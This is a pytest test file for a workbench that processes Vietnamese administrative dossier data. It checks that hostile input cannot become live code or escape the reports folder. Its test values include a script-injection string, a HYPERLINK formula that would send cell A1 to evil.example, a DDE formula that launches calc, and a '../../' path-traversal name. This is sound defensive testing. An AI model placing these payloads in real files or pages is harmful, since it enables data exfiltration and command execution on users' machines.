"""Hostile and careless input (issue 15): every case makes its own hostile input and states
the outcome expected. Text from data must never become code in any output kind."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import nbformat
import openpyxl
import pytest
from conftest import workbench

from analysis import escape
from analysis.batch import runlist as batch_runlist
from analysis.errors import WorkbenchError
from analysis.render import document as render

SCRIPT = "</style><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'


class _Tags(HTMLParser):
    """Counts start tags by name, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.count: dict[str, int] = {}

    def handle_starttag(self, tag, attrs):
        self.count[tag] = self.count.get(tag, 0) + 1


def _tags(html: str) -> dict[str, int]:
    parser = _Tags()
    parser.feed(html)
    return parser.count


# --- CSS string inside <style> ----------------------------------------------------------------


def test_css_string_cannot_end_the_string_or_the_style_block():
    text = escape.css_string(f'Sở "A" \\ {SCRIPT}\n')
    for bad in ("<", ">", '"', "\n"):
        assert bad not in text
    assert "\\" not in text.replace("\\00", "")  # the only backslashes start an escape
    assert escape.css_string("Thái Nguyên, quý 3/2023") == "Thái Nguyên, quý 3/2023"


def test_title_from_data_yields_no_live_script_in_the_page():
    """The title (an agency's name from a dossier export) goes into the running footer's CSS
    string and into the title block: the page must hold exactly the template's one <style>
    and no <script> at all."""
    nb = nbformat.v4.new_notebook()
    meta = {"title": f"Phiếu điểm {SCRIPT}", "lang": "vi", "provenance": []}
    html = render.to_html(nb, meta)
    tags = _tags(html)
    assert tags.get("script", 0) == 0, "a live <script> element"
    assert tags.get("style", 0) == 1
    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "<" not in style  # nothing from the title reads as a tag inside <style>


# --- XLSX cells -------------------------------------------------------------------------------


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_document_workbook_stores_formula_like_text_as_text():
    tables = [
        {
            "caption": FORMULA,
            "columns": ["Cơ quan", "Tỷ lệ"],
            "rows": [[FORMULA, 0.5], ["+cmd|' /C calc'!A0", 1], ["@SUM(A1:A2)", 2], ["-0,3", 3]],
        }
    ]
    cells = _cells(render.to_xlsx(tables, {"title": FORMULA, "lang": "vi"}))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert FORMULA in texts  # shown exactly as typed
    plain = [c for c in cells if c.value == "-0,3"]
    assert plain and not plain[0].quotePrefix  # a signed number is data, left alone


def test_score_workbook_stores_formula_like_text_as_text(tmp_path):
    """`workbench score --out x.xlsx` writes through ScoreResult.to_file."""
    import pandas as pd

    from analysis.index766 import engine

    units = pd.DataFrame({"unit": [FORMULA], "total": [50.0]})

    class _Result(engine.ScoreResult):  # the real writer; only the tables are made by hand
        def table(self):
            return pd.DataFrame({"agency": [FORMULA], "points": [1.0]})

    fake = object.__new__(_Result)
    for key, value in {"units": units, "rules_version": "t", "rules_path": "t"}.items():
        object.__setattr__(fake, key, value)
    path = fake.to_file(tmp_path / "score.xlsx")
    cells = _cells(path.read_bytes())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in {c.value for c in cells}


# --- CSV cells --------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"])
def test_csv_cell_neutralises_formula_triggers(value):
    assert escape.csv_cell(value) == "'" + value
    assert escape.csv_cell("Sở Tư pháp") == "Sở Tư pháp"
    assert escape.csv_cell("-12") == "-12" and escape.csv_cell(5) == 5


def test_rejected_rows_file_carries_no_formula(tmp_path):
    from analysis.ingest import Rejected, _write_rejected

    target = tmp_path / "rejected_x.csv"
    _write_rejected(target, [Rejected("x.csv", 7, {"Cơ quan": FORMULA}, ["bad count"])])
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[1][2] == "'" + FORMULA
    assert not any(cell.startswith(escape.FORMULA_TRIGGERS) for row in rows for cell in row)


# --- run list output paths --------------------------------------------------------------------


def _notebook(tmp_path):
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell('agency = "x"')
    cell.metadata["tags"] = ["parameters"]
    nb.cells = [cell]
    path = tmp_path / "agency.ipynb"
    nbformat.write(nb, path)
    return path


def _load(tmp_path, output, unit):
    nb = _notebook(tmp_path)
    path = tmp_path / "run.yaml"
    path.write_text(
        f"period: 2023Q3\nformats: [html]\nruns:\n  - notebook: {nb}\n"
        f"    output: '{output}'\n    parameters: {{agency: '{unit}'}}\n",
        encoding="utf-8",
    )
    reports = tmp_path / "reports"
    reports.mkdir(exist_ok=True)
    return batch_runlist.load(path, reports=reports)


def test_unit_name_cannot_lead_the_output_out_of_reports(tmp_path):
    with pytest.raises(WorkbenchError, match="outside the reports folder") as err:
        _load(tmp_path, "{period}/agencies/{agency}", "../../../../outside/pwned")
    assert "entry 1" in str(err.value) and "output" in str(err.value)
    assert not (tmp_path / "outside").exists()


@pytest.mark.parametrize("field", ["{slug.__class__.__mro__}", "{agency[0]}", "{agency!r}"])
def test_output_placeholders_are_plain_names(tmp_path, field):
    with pytest.raises(WorkbenchError, match="is not allowed"):
        _load(tmp_path, "{period}/" + field, "Sở Tư pháp")


def test_plain_output_still_works(tmp_path):
    runs = _load(tmp_path, "{period}/agencies/{agency}", "Sở Tư pháp").runs
    assert runs[0].out_dir == (tmp_path / "reports" / "2023Q3" / "agencies")
    assert runs[0].stem == "Sở Tư pháp"


# --- two imports into one folder at once ------------------------------------------------------

HEADER = "Tỉnh,Cấp,Tháng,Hồ sơ tiếp nhận,Hồ sơ trực tuyến\n"


def test_concurrent_imports_into_one_folder_keep_both_files(tmp_path):
    """Two `workbench ingest` processes of different monthly files into one --out, started
    together, five times: every time both files' months are in the panel (12 + 12 rows, online
    counts as written) and the manifest lists both."""
    import subprocess
    import sys

    import pandas as pd

    files = []
    for n, province in enumerate(("Thái Nguyên", "Bắc Ninh")):
        rows = "".join(
            f"{province},Cấp tỉnh,{m:02d}/2023,{1000 + m},{100 * (n + 1) + m}\n"
            for m in range(1, 13)
        )
        path = tmp_path / f"{n}.csv"
        path.write_text(HEADER + rows, encoding="utf-8")
        files.append(path)
    code = (
        "import sys; from analysis.ingest import ingest; "
        "ingest([sys.argv[1]], kind='monthly', out_dir=sys.argv[2], today='2024-01-31')"
    )
    for attempt in range(5):
        out = tmp_path / f"out{attempt}"
        procs = [
            subprocess.Popen([sys.executable, "-c", code, str(f), str(out)], stderr=subprocess.PIPE)
            for f in files
        ]
        for p in procs:
            assert p.wait(timeout=120) == 0, p.stderr.read().decode()
        panel = pd.read_parquet(out / "panel.parquet")
        assert len(panel) == 24, f"attempt {attempt}: {len(panel)} rows"
        online = panel.groupby("province")["dossiers_online"].sum().to_dict()
        # 100 + m and 200 + m over m = 1..12: 1200 + 78 and 2400 + 78
        assert sorted(online.values()) == [1278, 2478]
        import json

        listed = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
        assert len(listed["imports"]) == 2


# --- silent changes become refusals -----------------------------------------------------------


def _refused(paths, tmp_path, problem_kind, **kw):
    from analysis.ingest import IngestError, ingest

    out = tmp_path / "out"
    with pytest.raises(IngestError) as caught:
        ingest(paths, out_dir=out, today="2025-10-15", **kw)
    assert not out.exists() or not any(out.iterdir()), "something was written"
    kinds = [p.kind for p in caught.value.report.problems]
    assert problem_kind in kinds, kinds
    return caught.value


def _cp1258(text: str) -> bytes:
    """Vietnamese as Windows-1258 writes it: a base letter, then the tone as a combining mark."""
    import unicodedata

    tones = "\u0300\u0301\u0303\u0309\u0323"
    out = b""
    for ch in text:
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
            out += (base + "".join(c for c in parts if c in tones)).encode("cp1258")
    return out


def test_json_with_a_duplicate_key_is_refused(tmp_path):
    """Two "TEN" in one record: json.loads would keep "Bắc Ninh" for unit 19 without a word."""
    path = tmp_path / "scores_2024-05.json"
    path.write_text(
        '{"data": [{"ID": "19", "TEN": "Thái Nguyên", "TEN": "Bắc Ninh", "CKMB": 15.5, '
        '"TDGQ": 18.2, "TTTT": 8.4, "CLGQ": 10.1, "MDHL": 17.6, "MDSH": 19.3}]}',
        encoding="utf-8",
    )
    error = _refused([path], tmp_path, "duplicate_key")
    assert "'TEN'" in str(error.report.problems[0].message)


def test_json_nested_100000_deep_is_a_clear_refusal(tmp_path):
    path = tmp_path / "deep_2024-05.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    _refused([path], tmp_path, "bad_json")


def test_nul_byte_after_the_first_64_kib_is_refused(tmp_path):
    rows = "".join(f"Thái Nguyên,Cấp tỉnh,{m:02d}/2023,1000,500\n" for m in range(1, 13))
    filler = "".join(f"Thái Nguyên,Cấp tỉnh,01/2023,1000,500{' ' * 60}\n" for _ in range(1200))
    path = tmp_path / "nul.csv"
    path.write_bytes((HEADER + rows + filler).encode() + b"\x00" + b"x\n")
    assert path.stat().st_size > 65_536
    _refused([path], tmp_path, "binary_file", kind="monthly")


def test_file_switching_from_windows_1258_to_utf8_is_refused_naming_the_line(tmp_path):
    head = _cp1258(HEADER + "Thái Nguyên,Cấp tỉnh,01/2023,1000,500\n" * 30)
    tail = ("Bắc Ninh,Cấp tỉnh,01/2023,900,400\n" * 3).encode("utf-8")
    path = tmp_path / "mixed.csv"
    path.write_bytes(head + tail)
    error = _refused([path], tmp_path, "mixed_encoding", kind="monthly")
    assert error.report.problems[0].row == 32  # header + 30 rows, then the first UTF-8 line


def test_count_of_ten_to_the_twenty_is_a_row_problem_not_a_traceback(tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text(
        HEADER + "Thái Nguyên,Cấp tỉnh,01/2023,100000000000000000000,5\n", encoding="utf-8"
    )
    error = _refused([path], tmp_path, "count_too_large", kind="monthly")
    problem = [p for p in error.report.problems if p.kind == "count_too_large"][0]
    assert problem.row == 2


# --- a user's mistake is one line, never a traceback ------------------------------------------


# ``workbench`` (tests/conftest.py) runs the command's entry point in this process: the same
# handling of mistakes as the installed command (tests/cli/test_cli.py runs that one).


def test_out_naming_a_file_or_an_unwritable_place_is_one_line(tmp_path):
    table = tmp_path / "a.csv"
    table.write_text(HEADER + "Thái Nguyên,Cấp tỉnh,01/2023,1000,500\n", encoding="utf-8")
    existing = tmp_path / "file"
    existing.write_text("x")
    for out in (existing, existing / "inside", "/proc/no/such/place"):
        code, _, stderr = workbench("ingest", table, "--out", out)
        assert code == 2, stderr
        assert "Traceback" not in stderr and len(stderr.strip().splitlines()) == 1


def test_score_on_a_raw_csv_says_to_import_it_first(tmp_path):
    table = tmp_path / "export.csv"
    table.write_text("dossier_id,received\n1,2024-01-02\n", encoding="utf-8")
    code, _, stderr = workbench("score", table, "--period", "2024-01")
    assert code == 2 and "Traceback" not in stderr
    assert "workbench ingest" in stderr
